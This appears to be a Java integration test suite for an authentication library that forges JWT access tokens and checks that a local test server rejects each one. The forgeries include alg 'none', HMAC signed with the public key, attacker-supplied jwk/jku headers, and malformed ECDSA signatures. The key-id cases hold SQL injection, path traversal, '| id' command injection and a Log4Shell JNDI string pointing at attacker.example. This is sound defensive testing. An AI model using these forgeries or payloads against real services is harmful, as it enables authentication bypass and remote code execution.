package io.sallyport.auth;

import static io.sallyport.auth.TestSite.echoOf;
import static io.sallyport.auth.token.TokenForge.base64;
import static io.sallyport.auth.token.TokenForge.json;
import static java.nio.charset.StandardCharsets.US_ASCII;
import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.params.provider.Arguments.arguments;

import io.sallyport.auth.token.TokenForge;
import java.io.ByteArrayOutputStream;
import java.math.BigInteger;
import java.nio.charset.StandardCharsets;
import java.security.GeneralSecurityException;
import java.security.KeyPair;
import java.security.KeyPairGenerator;
import java.security.Signature;
import java.security.interfaces.ECPublicKey;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.Base64;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.function.Consumer;
import java.util.function.UnaryOperator;
import java.util.stream.Stream;
import javax.crypto.Mac;
import javax.crypto.spec.SecretKeySpec;
import org.junit.jupiter.api.AutoClose;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Named;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

/**
 * Access tokens that lie, each in one way only: apart from that they are right, and signed with the
 * right key where the trick is not in the signature.
 */
class AccessTokenAttackIT {

  @AutoClose private static TestSite site;
  private static TokenForge forge;

  @BeforeAll
  static void start() throws Exception {
    site = TestSite.on(Engine.JETTY).start();
    forge = TokenForge.of(site.identity);
  }

  /** Makes a token. */
  @FunctionalInterface
  interface Trick {
    String token() throws Exception;
  }

  private static Arguments trick(String name, Trick trick) {
    return arguments(Named.of(name, trick));
  }

  private static long now() {
    return site.clock.instant().getEpochSecond();
  }

  private static Map<String, Object> header() {
    var header = new LinkedHashMap<String, Object>();
    header.put("alg", "ES256");
    header.put("typ", "at+jwt");
    header.put("kid", forge.keyId());
    return header;
  }

  private static Map<String, Object> claims() {
    var claims = new LinkedHashMap<String, Object>();
    claims.put("iss", site.origin());
    claims.put("aud", site.origin());
    claims.put("sub", site.accountId("alice"));
    claims.put("iat", now());
    claims.put("exp", now() + 900);
    claims.put("jti", "a-jti");
    claims.put("client_id", "first-party");
    claims.put("scope", "notes:read");
    claims.put("sid", "a-sid");
    claims.put("auth_time", now());
    claims.put("amr", List.of("pwd"));
    claims.put("acr", "aal1");
    claims.put("epoch", 0);
    return claims;
  }

  private static Map<String, Object> changed(
      Map<String, Object> members, Consumer<Map<String, Object>> change) {
    change.accept(members);
    return members;
  }

  private static Arguments header(String name, Consumer<Map<String, Object>> change) {
    return trick("header: " + name, () -> forge.sign(changed(header(), change), claims()));
  }

  private static Arguments claim(String name, Consumer<Map<String, Object>> change) {
    return trick("claims: " + name, () -> forge.sign(header(), changed(claims(), change)));
  }

  private static String encoded(Map<String, ?> members) {
    return base64(json(members).getBytes(UTF_8));
  }

  private static String honest() {
    return forge.sign(header(), claims());
  }

  private static List<String> honestParts() {
    return List.of(honest().split("\\.", -1));
  }

  private static String withSignature(byte[] signature) {
    return encoded(header()) + "." + encoded(claims()) + "." + base64(signature);
  }

  private static byte[] signature() {
    return forge.signature(encoded(header()), encoded(claims()));
  }

  // The same makers without a trick: the tests below prove something only if these pass.

  static Stream<Arguments> honestTokens() {
    return Stream.of(
        trick("plain", AccessTokenAttackIT::honest),
        trick("issued by the site", () -> site.accessToken("alice")),
        header("typ in capitals", h -> h.put("typ", "AT+JWT")),
        header("typ in full", h -> h.put("typ", "application/at+jwt")),
        header("typ in full and capitals", h -> h.put("typ", "Application/AT+JWT")),
        header("unknown member", h -> h.put("x", "y")),
        claim("unknown member", c -> c.put("x", Map.of("y", List.of(1, 2)))),
        claim("audience among others", c -> c.put("aud", List.of("other", site.origin()))),
        claim("expires in a second", c -> c.put("exp", now() + 1)),
        claim("nbf now", c -> c.put("nbf", now())),
        claim("no scope at all", c -> c.put("scope", "")),
        trick(
            "white space in the JSON",
            () -> forge.sign(" " + json(header()) + "\n", "\t" + json(claims()) + " ")),
        trick("as long as may be", () -> ofLength(7_900, 8_000)));
  }

  @ParameterizedTest
  @MethodSource("honestTokens")
  void token_honest_isAccepted(Trick trick) throws Exception {
    String value = "Bearer " + trick.token();
    RawAnswer answer = site.send("GET", "/mine", "Authorization: " + value);
    assertThat(answer.status()).as("%s", answer).isEqualTo(200);
    assertThat(answer.text())
        .isEqualTo(
            echoOf("/mine", "alice", false)
                .replace("type=FORM", "type=BEARER")
                .replace("authorization=null", "authorization=" + value));
  }

  private static String ofLength(int least, int most) {
    for (int size = least / 2; size < most; size++) {
      int length = size;
      String token = forge.sign(header(), changed(claims(), c -> c.put("x", "a".repeat(length))));
      if (token.length() >= least && token.length() <= most) {
        return token;
      }
    }
    throw new AssertionError("No such length");
  }

  static Stream<Arguments> tricks() {
    return Stream.of(
            unsigned(),
            sharedSecrets(),
            algorithms(),
            headerMembers(),
            keyIds(),
            types(),
            missingAndWrongClaims(),
            times(),
            signatures(),
            spellings(),
            shapes(),
            jsonTexts(),
            otherKinds())
        .flatMap(tricks -> tricks);
  }

  private static Stream<Arguments> unsigned() {
    return Stream.of("none", "None", "nOnE", "NONE", "", "none ", "\u0000none")
        .flatMap(
            name ->
                Stream.of(
                    trick(
                        "alg '" + name + "' without signature",
                        () ->
                            encoded(changed(header(), h -> h.put("alg", name)))
                                + "."
                                + encoded(claims())
                                + "."),
                    trick(
                        "alg '" + name + "' with two parts",
                        () ->
                            encoded(changed(header(), h -> h.put("alg", name)))
                                + "."
                                + encoded(claims())),
                    header("alg '" + name + "' and signed", h -> h.put("alg", name))));
  }

  /** The public key, in every form in which somebody may have fed it to an HMAC. */
  private static Stream<Arguments> sharedSecrets() {
    return Stream.of(
        hmac("PEM", () -> pem("\n", "\n")),
        hmac("PEM without the last newline", () -> pem("\n", "")),
        hmac("PEM with CRLF", () -> pem("\r\n", "\r\n")),
        hmac("PEM in one line", () -> pem("", "")),
        hmac("base64 of DER", () -> Base64.getEncoder().encode(der())),
        hmac("DER", AccessTokenAttackIT::der),
        hmac("published set", () -> site.send("GET", "/auth/jwks.json").body()),
        hmac("published key", AccessTokenAttackIT::jwk),
        hmac("x and y", () -> point(false)),
        hmac("uncompressed point", () -> point(true)),
        hmac("x", () -> Arrays.copyOf(point(false), 32)),
        hmac("key id", () -> forge.keyId().getBytes(US_ASCII)),
        hmac("a null byte", () -> new byte[1]));
  }

  /** Gives bytes. */
  @FunctionalInterface
  private interface Secret {
    byte[] bytes() throws Exception;
  }

  private static Arguments hmac(String name, Secret secret) {
    return trick(
        "HS256 signed with the public key: " + name,
        () -> {
          String input =
              encoded(changed(header(), h -> h.put("alg", "HS256"))) + "." + encoded(claims());
          Mac mac = Mac.getInstance("HmacSHA256");
          mac.init(new SecretKeySpec(secret.bytes(), "HmacSHA256"));
          return input + "." + base64(mac.doFinal(input.getBytes(US_ASCII)));
        });
  }

  private static byte[] der() {
    return forge.publicKey().getEncoded();
  }

  private static byte[] pem(String newline, String end) {
    return ("-----BEGIN PUBLIC KEY-----"
            + newline
            + Base64.getMimeEncoder(64, newline.getBytes(US_ASCII)).encodeToString(der())
            + newline
            + "-----END PUBLIC KEY-----"
            + end)
        .getBytes(US_ASCII);
  }

  private static byte[] jwk() throws Exception {
    String set = site.send("GET", "/auth/jwks.json").text();
    return set.substring(set.indexOf('[') + 1, set.lastIndexOf(']')).getBytes(US_ASCII);
  }

  private static byte[] point(boolean marked) {
    byte[] point = Arrays.copyOfRange(der(), der().length - 65, der().length);
    return marked ? point : Arrays.copyOfRange(point, 1, 65);
  }

  private static Stream<Arguments> algorithms() {
    Stream<Arguments> renamed =
        Stream.of("RS256", "EdDSA", "ES384", "ES256K", "PS256", "HS256", "es256", "ES256 ", "RSA")
            .map(name -> header("alg " + name, h -> h.put("alg", name)));
    Stream<Arguments> mistyped =
        Stream.of(
            header("no alg", h -> h.remove("alg")),
            header("alg null", h -> h.put("alg", null)),
            header("alg a number", h -> h.put("alg", 256)),
            header("alg a list", h -> h.put("alg", List.of("ES256"))),
            trick("RS256 by a foreign RSA key", () -> foreign("RSA", "SHA256withRSA", "RS256")),
            trick("EdDSA by a foreign Ed25519 key", () -> foreign("Ed25519", "Ed25519", "EdDSA")),
            trick(
                "ES256 by a foreign key",
                () -> foreign("EC", "SHA256withECDSAinP1363Format", "ES256")));
    return Stream.concat(renamed, mistyped);
  }

  private static String foreign(String kind, String algorithm, String name)
      throws GeneralSecurityException {
    KeyPairGenerator generator = KeyPairGenerator.getInstance(kind);
    if (kind.equals("EC")) {
      generator.initialize(256);
    }
    KeyPair pair = generator.generateKeyPair();
    String input = encoded(changed(header(), h -> h.put("alg", name))) + "." + encoded(claims());
    Signature signature = Signature.getInstance(algorithm);
    signature.initSign(pair.getPrivate());
    signature.update(input.getBytes(US_ASCII));
    return input + "." + base64(signature.sign());
  }

  /** What brings or points to a key, or changes what is signed (RFC 8725, section 3.10). */
  private static Stream<Arguments> headerMembers() {
    return Stream.of(
        header("jwk", h -> h.put("jwk", Map.of("kty", "EC"))),
        header("jku", h -> h.put("jku", "https://attacker.example/jwks.json")),
        header("x5u", h -> h.put("x5u", "https://attacker.example/a.pem")),
        header("x5c", h -> h.put("x5c", List.of("MIIB"))),
        header("crit", h -> h.put("crit", List.of("exp"))),
        header("crit of nothing", h -> h.put("crit", List.of())),
        header("b64", h -> h.put("b64", false)),
        header("b64 as usual", h -> h.put("b64", true)),
        header("zip", h -> h.put("zip", "DEF")),
        header("cty", h -> h.put("cty", "JWT")),
        header("enc", h -> h.put("enc", "A128GCM")),
        header("jwk null", h -> h.put("jwk", null)),
        trick(
            "jwk with the attacker's key, which signs",
            () -> {
              KeyPairGenerator generator = KeyPairGenerator.getInstance("EC");
              generator.initialize(256);
              KeyPair pair = generator.generateKeyPair();
              var key = (ECPublicKey) pair.getPublic();
              String input =
                  encoded(
                          changed(
                              header(),
                              h ->
                                  h.put(
                                      "jwk",
                                      Map.of(
                                          "kty",
                                          "EC",
                                          "crv",
                                          "P-256",
                                          "x",
                                          base64(half(key.getW().getAffineX())),
                                          "y",
                                          base64(half(key.getW().getAffineY()))))))
                      + "."
                      + encoded(claims());
              Signature signature = Signature.getInstance("SHA256withECDSAinP1363Format");
              signature.initSign(pair.getPrivate());
              signature.update(input.getBytes(US_ASCII));
              return input + "." + base64(signature.sign());
            }));
  }

  private static byte[] half(BigInteger number) {
    byte[] bytes = number.toByteArray();
    byte[] half = new byte[32];
    int length = Math.min(32, bytes.length);
    System.arraycopy(bytes, bytes.length - length, half, 32 - length, length);
    return half;
  }

  private static Stream<Arguments> keyIds() {
    Stream<Arguments> texts =
        Stream.of(
                "",
                "unknown",
                "../../../../../../dev/null",
                "/dev/null",
                "file:///dev/null",
                "' or '1'='1",
                "' union select 'a' --",
                "| id",
                "${jndi:ldap://attacker.example/a}",
                "a\u0000b",
                "k".repeat(4_000))
            .map(id -> header("kid " + id, h -> h.put("kid", id)));
    Stream<Arguments> others =
        Stream.of(
            header("no kid", h -> h.remove("kid")),
            header("kid null", h -> h.put("kid", null)),
            header("kid a number", h -> h.put("kid", 1)),
            header("kid a list", h -> h.put("kid", List.of(forge.keyId()))),
            header("kid an object", h -> h.put("kid", Map.of("kid", forge.keyId()))),
            header("kid in other case", h -> h.put("kid", swapCase(forge.keyId()))),
            header("kid with a space", h -> h.put("kid", forge.keyId() + " ")),
            header("kid of the shared secret", h -> h.put("kid", "hs256")));
    return Stream.concat(texts, others);
  }

  private static String swapCase(String text) {
    return text.equals(text.toLowerCase(java.util.Locale.ROOT))
        ? text.toUpperCase(java.util.Locale.ROOT)
        : text.toLowerCase(java.util.Locale.ROOT);
  }

  private static Stream<Arguments> types() {
    Stream<Arguments> texts =
        Stream.of(
                "",
                "JWT",
                "jwt",
                "at",
                "at+jwt ",
                " at+jwt",
                "at jwt",
                "text/at+jwt",
                "application/jwt",
                "application/at+jwt; x=y",
                "id+jwt",
                "logout+jwt",
                "at+jwt\u0000")
            .map(type -> header("typ '" + type + "'", h -> h.put("typ", type)));
    Stream<Arguments> others =
        Stream.of(
            header("no typ", h -> h.remove("typ")),
            header("typ null", h -> h.put("typ", null)),
            header("typ a list", h -> h.put("typ", List.of("at+jwt"))),
            header("typ under another name", h -> h.put("Typ", h.remove("typ"))));
    return Stream.concat(texts, others);
  }

  private static Stream<Arguments> missingAndWrongClaims() {
    var all = new ArrayList<Arguments>();
    for (String name :
        List.of("iss", "aud", "sub", "exp", "iat", "jti", "sid", "epoch", "scope", "auth_time")) {
      all.add(claim("no " + name, c -> c.remove(name)));
      all.add(claim(name + " null", c -> c.put(name, null)));
      all.add(claim(name + " an object", c -> c.put(name, Map.of(name, "a"))));
      all.add(claim(name + " a boolean", c -> c.put(name, true)));
      all.add(
          claim(
              name + " of the other type",
              c -> c.put(name, c.get(name) instanceof String ? (Object) 7L : "7")));
      all.add(claim(name + " an empty list", c -> c.put(name, List.of())));
    }
    for (String name : List.of("iss", "sub", "jti", "sid")) {
      all.add(claim(name + " a list", c -> c.put(name, List.of(c.get(name)))));
      all.add(claim(name + " empty", c -> c.put(name, "")));
    }
    String origin = site.origin();
    for (String other :
        List.of(
            origin + "/",
            origin + ".attacker.example",
            origin.replace("http:", "https:"),
            origin.replace("http", "HTTP"),
            "http://localhost:" + site.port(),
            "https://attacker.example",
            "*")) {
      all.add(claim("iss " + other, c -> c.put("iss", other)));
      all.add(claim("aud " + other, c -> c.put("aud", other)));
      all.add(claim("aud [" + other + "]", c -> c.put("aud", List.of(other))));
    }
    all.add(claim("aud a list with a number", c -> c.put("aud", List.of(origin, 1))));
    all.add(claim("sub unknown", c -> c.put("sub", "nobody")));
    all.add(claim("sub a name", c -> c.put("sub", "alice")));
    all.add(claim("amr missing", c -> c.remove("amr")));
    all.add(claim("amr a number", c -> c.put("amr", 1)));
    return all.stream();
  }

  private static Stream<Arguments> times() {
    var all = new ArrayList<Arguments>();
    all.add(claim("exp at this instant", c -> c.put("exp", now())));
    all.add(claim("exp a second ago", c -> c.put("exp", now() - 1)));
    all.add(claim("exp zero", c -> c.put("exp", 0)));
    all.add(claim("exp in milliseconds", c -> c.put("exp", (now() + 900) * 1_000)));
    all.add(claim("nbf in a second", c -> c.put("nbf", now() + 1)));
    all.add(claim("nbf in a year", c -> c.put("nbf", now() + 31_536_000)));
    all.add(claim("nbf a text", c -> c.put("nbf", "0")));
    all.add(claim("nbf null", c -> c.put("nbf", null)));
    for (String name : List.of("exp", "iat", "nbf", "auth_time", "epoch")) {
      for (String number :
          List.of(
              "-1",
              "-9223372036854775808",
              "9223372036854775808",
              "99999999999999999999999999",
              "1e400",
              "1.9e9",
              "1893495600.5",
              "0x7fffffff",
              "NaN",
              "Infinity",
              "+1",
              "01")) {
        all.add(
            trick(
                "claims: " + name + " " + number,
                () ->
                    forge.sign(
                        json(header()),
                        json(changed(claims(), c -> c.put(name, "HERE")))
                            .replace("\"HERE\"", number))));
      }
    }
    for (String name : List.of("exp", "iat", "nbf", "auth_time")) {
      all.add(claim(name + " beyond the calendar", c -> c.put(name, Long.MAX_VALUE)));
    }
    return all.stream();
  }

  private static Stream<Arguments> signatures() {
    BigInteger order =
        new BigInteger("ffffffff00000000ffffffffffffffffbce6faada7179e84f3b9cac2fc632551", 16);
    return Stream.of(
        trick("signature of zeros", () -> withSignature(new byte[64])),
        trick("signature with r = 0", () -> withSignature(join(new byte[32], s()))),
        trick("signature with s = 0", () -> withSignature(join(r(), new byte[32]))),
        trick("signature with r = s = 1", () -> withSignature(join(one(), one()))),
        trick("signature with r = n", () -> withSignature(join(half(order), s()))),
        trick("signature with s = n", () -> withSignature(join(r(), half(order)))),
        trick(
            "twin signature",
            () -> withSignature(join(r(), half(order.subtract(new BigInteger(1, s())))))),
        trick(
            "signature with -s",
            () -> withSignature(join(r(), half(BigInteger.ZERO.subtract(new BigInteger(1, s())))))),
        trick("signature with r and s exchanged", () -> withSignature(join(s(), r()))),
        trick("signature in DER", () -> withSignature(derSignature())),
        trick("signature cut", () -> withSignature(Arrays.copyOf(signature(), 63))),
        trick("signature with a byte more", () -> withSignature(Arrays.copyOf(signature(), 65))),
        trick("signature twice", () -> withSignature(join(signature(), signature()))),
        trick(
            "signature of halves with a zero ahead",
            () -> withSignature(join(join(new byte[1], r()), join(new byte[1], s())))),
        trick("signature of one byte", () -> withSignature(new byte[1])),
        trick("signature of ones", () -> withSignature(filled((byte) 0xff))),
        trick("no signature", () -> encoded(header()) + "." + encoded(claims()) + "."),
        trick(
            "signature of another token",
            () ->
                encoded(header())
                    + "."
                    + encoded(changed(claims(), c -> c.put("sub", site.accountId("ada"))))
                    + "."
                    + base64(signature())),
        trick(
            "signature of the payload alone",
            () -> withSignature(forge.signature("", encoded(claims())))));
  }

  private static byte[] r() {
    return Arrays.copyOf(signature(), 32);
  }

  private static byte[] s() {
    return Arrays.copyOfRange(signature(), 32, 64);
  }

  private static byte[] one() {
    return half(BigInteger.ONE);
  }

  private static byte[] filled(byte with) {
    var bytes = new byte[64];
    Arrays.fill(bytes, with);
    return bytes;
  }

  private static byte[] join(byte[] first, byte[] second) {
    byte[] both = Arrays.copyOf(first, first.length + second.length);
    System.arraycopy(second, 0, both, first.length, second.length);
    return both;
  }

  private static byte[] derSignature() {
    byte[] r = new BigInteger(1, r()).toByteArray();
    byte[] s = new BigInteger(1, s()).toByteArray();
    var der = new ByteArrayOutputStream();
    der.write(0x30);
    der.write(4 + r.length + s.length);
    der.write(2);
    der.write(r.length);
    der.writeBytes(r);
    der.write(2);
    der.write(s.length);
    der.writeBytes(s);
    return der.toByteArray();
  }

  /** Other spellings of base64url, each with a right signature of what is written. */
  private static Stream<Arguments> spellings() {
    var all = new ArrayList<Arguments>();
    for (int part = 0; part < 3; part++) {
      int at = part;
      String name = " in part " + (part + 1);
      all.add(trick("padding" + name, () -> rewritten(at, 2, text -> text + "==")));
      all.add(trick("one padding character" + name, () -> rewritten(at, 2, text -> text + "=")));
      all.add(trick("space" + name, () -> rewritten(at, 0, text -> put(text, " "))));
      all.add(trick("tab" + name, () -> rewritten(at, 0, text -> put(text, "\t"))));
      all.add(trick("percent" + name, () -> rewritten(at, 0, text -> put(text, "%20"))));
      all.add(trick("comma" + name, () -> rewritten(at, 0, text -> put(text, ","))));
      all.add(trick("umlaut" + name, () -> rewritten(at, 0, text -> put(text, "\u00e4"))));
      all.add(
          trick(
              "the other alphabet" + name,
              () -> rewritten(at, -1, text -> text.replace('-', '+').replace('_', '/'))));
      all.add(
          trick(
              "spare bits in the last character" + name,
              () -> rewritten(at, 2, AccessTokenAttackIT::withSpareBits)));
      all.add(trick("one character more" + name, () -> rewritten(at, 0, text -> text + "A")));
    }
    return all.stream();
  }

  private static String put(String text, String what) {
    return text.substring(0, 4) + what + text.substring(4);
  }

  private static String withSpareBits(String text) {
    String alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";
    int last = alphabet.indexOf(text.charAt(text.length() - 1));
    return text.substring(0, text.length() - 1) + alphabet.charAt(last | 1);
  }

  /**
   * An honest token with one part written in another way, and then signed.
   *
   * @param rest how many characters stand after the last four, of the part; negative for one that
   *     has a character of base64url in it that base64 spells in another way
   */
  private static String rewritten(int part, int rest, UnaryOperator<String> rewriting) {
    for (int tries = 0; tries < 1_000; tries++) {
      String more = "?>~".repeat(5) + "\u00ff" + "x".repeat(tries);
      var header = changed(header(), h -> h.put("x", more));
      String first = encoded(header);
      String second = encoded(changed(claims(), c -> c.put("x", more)));
      var parts = new ArrayList<>(List.of(first, second, base64(forge.signature(first, second))));
      String text = parts.get(part);
      boolean fits =
          rest < 0
              ? text.contains("-") || text.contains("_")
              : part == 2 || text.length() % 4 == rest;
      if (fits) {
        String written = rewriting.apply(text);
        assertThat(written).isNotEqualTo(text);
        parts.set(part, written);
        if (part < 2) {
          parts.set(2, base64(forge.signature(parts.get(0), parts.get(1))));
        }
        return String.join(".", parts);
      }
    }
    throw new AssertionError("No token of that shape");
  }

  private static Stream<Arguments> shapes() {
    return Stream.of(
        trick("one part", () -> honestParts().get(0)),
        trick("two parts", () -> String.join(".", honestParts().subList(0, 2))),
        trick("four parts", () -> honest() + ".AAAA"),
        trick("four parts, the last empty", () -> honest() + "."),
        trick("five parts", () -> honest() + ".AAAA.AAAA"),
        trick("a dot ahead", () -> "." + honest()),
        trick("dots alone", () -> ".."),
        trick("no header", () -> "." + honestParts().get(1) + "." + honestParts().get(2)),
        trick("no payload", () -> forge.seal(encoded(header()), "")),
        trick("no payload member", () -> forge.sign(json(header()), "")),
        trick("twice", () -> honest() + honest()),
        trick("two tokens", () -> honest() + " " + honest()),
        trick("two tokens with a comma", () -> honest() + ", " + honest()),
        trick("quoted", () -> "\"" + honest() + "\""),
        trick("scheme twice", () -> "Bearer " + honest()),
        trick(
            "JSON serialisation, flattened",
            () ->
                "{\"protected\":\"%s\",\"payload\":\"%s\",\"signature\":\"%s\"}"
                    .formatted(honestParts().toArray())),
        trick(
            "JSON serialisation, general",
            () ->
                "{\"payload\":\"%2$s\",\"signatures\":[{\"protected\":\"%1$s\",\"signature\":\"%3$s\"}]}"
                    .formatted(honestParts().toArray())),
        trick("too long", () -> ofLength(8_001, 8_050)),
        trick("empty", () -> ""));
  }

  private static Stream<Arguments> jsonTexts() {
    var all = new ArrayList<Arguments>();
    String ada = site.accountId("ada");
    all.add(
        trick(
            "header with alg twice",
            () -> forge.sign(before(json(header()), "\"alg\":\"none\""), json(claims()))));
    all.add(
        trick(
            "header with kid twice, once escaped",
            () ->
                forge.sign(
                    before(json(header()), "\"\\u006bid\":\"" + forge.keyId() + "\""),
                    json(claims()))));
    all.add(
        trick(
            "claims with sub twice",
            () -> forge.sign(json(header()), before(json(claims()), "\"sub\":\"" + ada + "\""))));
    all.add(
        trick(
            "claims with exp twice, once escaped",
            () -> forge.sign(json(header()), before(json(claims()), "\"\\u0065xp\":1"))));
    all.add(
        trick(
            "claims with a member twice, deep inside",
            () -> forge.sign(json(header()), before(json(claims()), "\"x\":{\"y\":1,\"y\":2}"))));
    String nested = "[".repeat(100) + "]".repeat(100);
    String fields = "{\"a\":".repeat(100) + "1" + "}".repeat(100);
    all.add(
        trick(
            "header of deep lists",
            () -> forge.sign(before(json(header()), "\"x\":" + nested), json(claims()))));
    all.add(
        trick(
            "claims of deep lists",
            () -> forge.sign(json(header()), before(json(claims()), "\"x\":" + nested))));
    all.add(
        trick(
            "claims of deep objects",
            () -> forge.sign(json(header()), before(json(claims()), "\"x\":" + fields))));
    for (String text :
        List.of(
            "[]", "\"a\"", "1", "null", "", "{", "{}", "{}{}", "{\"a\"}", "{'a':1}", "\u0000")) {
      all.add(trick("header " + text, () -> forge.sign(text, json(claims()))));
      all.add(trick("claims " + text, () -> forge.sign(json(header()), text)));
    }
    all.add(trick("claims and more", () -> forge.sign(json(header()), json(claims()) + "x")));
    all.add(
        trick("claims twice", () -> forge.sign(json(header()), json(claims()) + json(claims()))));
    all.add(
        trick("claims with a comment", () -> forge.sign(json(header()), json(claims()) + "/**/")));
    all.add(
        trick(
            "header with a comma too many",
            () -> forge.sign(json(header()).replace("}", ",}"), json(claims()))));
    all.add(trick("header with NUL", () -> forge.sign(json(header()) + "\u0000", json(claims()))));
    for (var charset :
        List.of(StandardCharsets.UTF_16, StandardCharsets.UTF_16LE, StandardCharsets.UTF_16BE)) {
      all.add(
          trick(
              "header in " + charset,
              () -> forge.sign(json(header()).getBytes(charset), json(claims()).getBytes(UTF_8))));
      all.add(
          trick(
              "claims in " + charset,
              () -> forge.sign(json(header()).getBytes(UTF_8), json(claims()).getBytes(charset))));
    }
    all.add(trick("header with BOM", () -> forge.sign("\ufeff" + json(header()), json(claims()))));
    all.add(trick("claims with BOM", () -> forge.sign(json(header()), "\ufeff" + json(claims()))));
    all.add(
        trick(
            "claims that are not UTF-8",
            () ->
                forge.sign(
                    json(header()).getBytes(UTF_8),
                    before(json(claims()), "\"x\":\"\u00ff\"")
                        .getBytes(StandardCharsets.ISO_8859_1))));
    all.add(
        trick(
            "claims with an overlong UTF-8 form",
            () ->
                forge.sign(
                    json(header()).getBytes(UTF_8),
                    before(json(claims()), "\"x\":\"\u00c0\u00af\"")
                        .getBytes(StandardCharsets.ISO_8859_1))));
    all.add(
        trick(
            "claims with a name too long",
            () ->
                forge.sign(
                    json(header()), before(json(claims()), "\"" + "n".repeat(4_000) + "\":1"))));
    return all.stream();
  }

  private static String before(String json, String member) {
    return "{" + member + "," + json.substring(1);
  }

  private static Stream<Arguments> otherKinds() {
    return Stream.of(
        trick("a session id", () -> site.signedIn("alice").split("=", 2)[1]),
        trick("a refresh token", () -> site.tokens("alice", "token", "").json("refresh_token")),
        trick("a made-up API key", () -> "sk_live_" + "0".repeat(49)),
        trick("a password", () -> TestSite.PASSWORD),
        trick(
            "an id token",
            () ->
                forge.sign(
                    changed(header(), h -> h.put("typ", "JWT")),
                    changed(claims(), c -> c.put("nonce", "n")))));
  }

  @ParameterizedTest
  @MethodSource("tricks")
  void token_thatLies_isRefusedOnEveryPath(Trick trick) throws Exception {
    String header = "Authorization: Bearer " + trick.token();
    for (String target : List.of("/mine", "/open/who")) {
      Expect.invalidToken(site.send("GET", target, header));
    }
  }

  @Test
  void token_inTheQueryOrTheForm_isNotRead() throws Exception {
    String token = honest();
    for (String name : List.of("access_token", "token", "bearer", "Authorization", "jwt")) {
      Expect.unauthenticated(site.send("GET", "/mine?" + name + "=" + token));
      Expect.unauthenticated(site.form("/mine", name + "=" + token));
      RawAnswer open = site.send("GET", "/open/who?" + name + "=x");
      assertThat(open.text())
          .isEqualTo(
              echoOf("/open/who", null, false).replace("parameters=", "parameters=" + name + ":x"));
    }
  }

  @Test
  void token_thatWasRemembered_isRefusedAtTheInstantItExpires() throws Exception {
    String header =
        "Authorization: Bearer "
            + forge.sign(header(), changed(claims(), c -> c.put("exp", now() + 60)));
    int before = site.send("GET", "/mine", header).status();
    site.clock.advance(java.time.Duration.ofSeconds(60).minusNanos(1));
    int last = site.send("GET", "/mine", header).status();
    site.clock.advance(java.time.Duration.ofNanos(1));
    RawAnswer at = site.send("GET", "/mine", header);

    assertThat(List.of(before, last)).isEqualTo(List.of(200, 200));
    Expect.invalidToken(at);
  }
}
